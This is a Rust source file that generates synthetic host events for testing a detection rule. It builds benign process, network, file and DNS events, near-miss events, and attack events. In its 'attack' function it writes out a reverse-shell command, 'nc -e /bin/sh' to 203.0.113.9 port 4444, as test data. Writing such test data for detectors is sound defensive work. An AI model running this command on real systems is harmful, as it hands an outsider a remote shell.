//! Seed → events.

use super::{Common, Dns, File, HostEvent, Network, Process};
use detectors::Timestamp;
use std::net::{IpAddr, Ipv4Addr};

/// 2026-01-01T00:00:00Z
const START_MS: i64 = 1_767_225_600_000;
const HOSTS: u64 = 40;

/// A command and how often it runs; `{}` in an argument is a number.
const COMMANDS: &[(&str, &[&str], u64)] = &[
    ("bash", &["bash", "-c", "systemctl is-active nginx"], 10),
    ("sh", &["sh", "-c", "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )"], 10),
    ("ls", &["ls", "-la", "/home/user{}/proj"], 5),
    ("cat", &["cat", "/proc/meminfo"], 5),
    ("grep", &["grep", "-rn", "timeout", "/var/log/nginx"], 5),
    ("sed", &["sed", "-e", "s/foo/bar/g", "/etc/app.conf"], 4),
    ("awk", &["awk", "{print $1}", "/var/log/nginx/access.log"], 4),
    ("python3", &["python3", "/opt/app/worker_{}.py", "--config", "/etc/app/worker.yml", "--shard", "{}"], 6),
    ("node", &["node", "/srv/api/dist/server.js", "--port", "80{}"], 3),
    ("java", &["java", "-Xmx2g", "-jar", "/opt/svc/app.jar", "--spring.profiles.active=prod"], 2),
    ("curl", &["curl", "-sS", "-o", "/dev/null", "http://10.0.12.{}/healthz"], 4),
    ("git", &["git", "fetch", "--prune", "origin", "feature/{}"], 3),
    ("docker", &["docker", "ps", "-a", "--format", "{{.ID}}"], 2),
    ("runc", &["runc", "--root", "/var/run/docker/runtime-runc/moby", "exec", "--process", "/tmp/runc-process{}"], 4),
    ("ps", &["ps", "aux"], 3),
    ("systemctl", &["systemctl", "status", "docker"], 2),
    ("sudo", &["sudo", "-n", "-u", "app", "/usr/bin/true"], 2),
    ("find", &["find", "/var/tmp", "-type", "f", "-mtime", "+7"], 2),
    ("nc", &["nc", "-z", "-w", "2", "10.1.7.{}", "5432"], 1),
    ("chmod", &["chmod", "+x", "/tmp/build-{}.sh"], 1),
];
const PARENTS: &[&str] = &["bash", "sh", "systemd", "cron", "containerd-shim", "sshd", "python3", "runc", "nginx"];
const FOLDERS: &[&str] = &["/tmp", "/var/log/app", "/home/app/work", "/srv/app/cache"];
const NAMES: &[&str] = &["archive.ubuntu.com", "api.github.com", "s3.amazonaws.com", "registry.npmjs.org", "db-7.internal"];
const FILE_ACTIONS: &[&str] = &["creation", "deletion", "rename", "modification"];

/// Ordinary events, in the order of their times. None of them starts a reverse shell.
pub fn benign(count: usize, seed: u64) -> Vec<HostEvent> {
    let mut random = Random(seed | 1);
    let mut running = Vec::new();
    let mut at_ms = START_MS;
    let events = (0..count as u64).map(|number| {
        at_ms += random.below(5).cast_signed();
        let host_id = host(random.below(HOSTS));
        let kind = random.below(100);
        if kind < 60 || running.is_empty() {
            let (name, args) = command(&mut random);
            let entity_id = random.entity_id();
            running.push((entity_id.clone(), name));
            if running.len() > 1_000 {
                running.swap_remove(random.below(1_000) as usize);
            }
            let (event_type, action) =
                [("start", "exec"), ("start", "exec"), ("start", "fork"), ("end", "end")][random.below(4) as usize];
            let common = Common { at: Timestamp(at_ms), event_type, action, host_id, entity_id, process_name: name, number };
            let args_count = args.len() as i64;
            return HostEvent::Process(Process { common, args, args_count, parent_name: random.pick(PARENTS) });
        }
        let (entity_id, process_name) = running[random.below(running.len() as u64) as usize].clone();
        let common =
            |event_type, action| Common { at: Timestamp(at_ms), event_type, action, host_id, entity_id, process_name, number };
        match kind {
            60..80 => {
                let (event_type, action) = [
                    ("start", "connection_attempted"),
                    ("start", "connection_attempted"),
                    ("start", "connection_accepted"),
                    ("end", "disconnect_received"),
                ][random.below(4) as usize];
                HostEvent::Network(Network { common: common(event_type, action), destination: random.address() })
            }
            80..95 => {
                let action = random.pick(FILE_ACTIONS);
                let event_type = if matches!(action, "creation" | "deletion") { action } else { "change" };
                let path = format!("{}/f{:07}.log", random.pick(FOLDERS), random.below(10_000_000));
                HostEvent::File(File { common: common(event_type, action), path })
            }
            _ => HostEvent::Dns(Dns { common: common("protocol", "lookup_requested"), question: random.pick(NAMES) }),
        }
    });
    events.collect()
}

/// Processes that meet every condition of the first rule's first stage but the last: all of its alternatives are tried.
pub fn nearly(count: usize, seed: u64) -> Vec<HostEvent> {
    const SCRIPT: &str =
        "import os,sys,json,urllib.request; import pty as terminal; exec(open('/opt/app/socket/worker.py').read(), {})";
    let mut random = Random(seed | 1);
    let events = (0..count as u64).map(|number| {
        let args = ["python3", "-c", SCRIPT, "--shard", "7"].map(str::to_owned).to_vec();
        process(&mut random, number, "python3", args)
    });
    events.collect()
}

/// A reverse shell: a process, and the connection that it makes. Each `number` is a process of its own.
pub fn attack(number: u64) -> [HostEvent; 2] {
    let mut random = Random((number << 1) | 1);
    let args = ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"].map(str::to_owned).to_vec();
    let exec = process(&mut random, 2 * number, "nc", args);
    let at = Timestamp(exec.common().at.0 + 100);
    let action = "connection_attempted";
    let common = Common { at, event_type: "start", action, number: 2 * number + 1, ..exec.common().clone() };
    let destination = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 9));
    [exec, HostEvent::Network(Network { common, destination })]
}

fn process(random: &mut Random, number: u64, process_name: &'static str, args: Vec<String>) -> HostEvent {
    let common = Common {
        at: Timestamp(START_MS + number.cast_signed()),
        event_type: "start",
        action: "exec",
        host_id: host(random.below(HOSTS)),
        entity_id: random.entity_id(),
        process_name,
        number,
    };
    let args_count = args.len() as i64;
    HostEvent::Process(Process { common, args, args_count, parent_name: "bash" })
}

fn host(number: u64) -> String {
    let mut random = Random((number << 1) | 1);
    format!("{:016x}{:016x}", random.next(), random.next())
}

fn command(random: &mut Random) -> (&'static str, Vec<String>) {
    let all: u64 = COMMANDS.iter().map(|(_, _, weight)| weight).sum();
    let mut rest = random.below(all);
    for (name, args, weight) in COMMANDS {
        if rest < *weight {
            let args = args.iter().map(|arg| arg.replace("{}", &random.below(100).to_string()));
            return (name, args.collect());
        }
        rest -= weight;
    }
    ("true", vec!["true".to_owned()])
}

/// A xorshift generator.
pub(super) struct Random(u64);

impl Random {
    /// For what is to look random about an event.
    pub(super) const fn of(number: u64) -> Self {
        Self((number << 1) | 1)
    }

    pub(super) const fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0.wrapping_mul(0x9e37_79b9_7f4a_7c15)
    }

    pub(super) const fn below(&mut self, bound: u64) -> u64 {
        (self.next() >> 16) % bound
    }

    pub(super) fn pick(&mut self, among: &[&'static str]) -> &'static str {
        among[self.below(among.len() as u64) as usize]
    }

    fn entity_id(&mut self) -> String {
        format!("{:016x}{:016x}", self.next(), self.next())
    }

    fn address(&mut self) -> IpAddr {
        let (high, low) = (self.below(256) as u8, self.below(254) as u8 + 1);
        let [first, second] = [[10, 0], [192, 168], [172, 16], [127, 0], [52, 95], [140, 82]][self.below(6) as usize];
        IpAddr::V4(Ipv4Addr::new(first, second, high, low))
    }
}
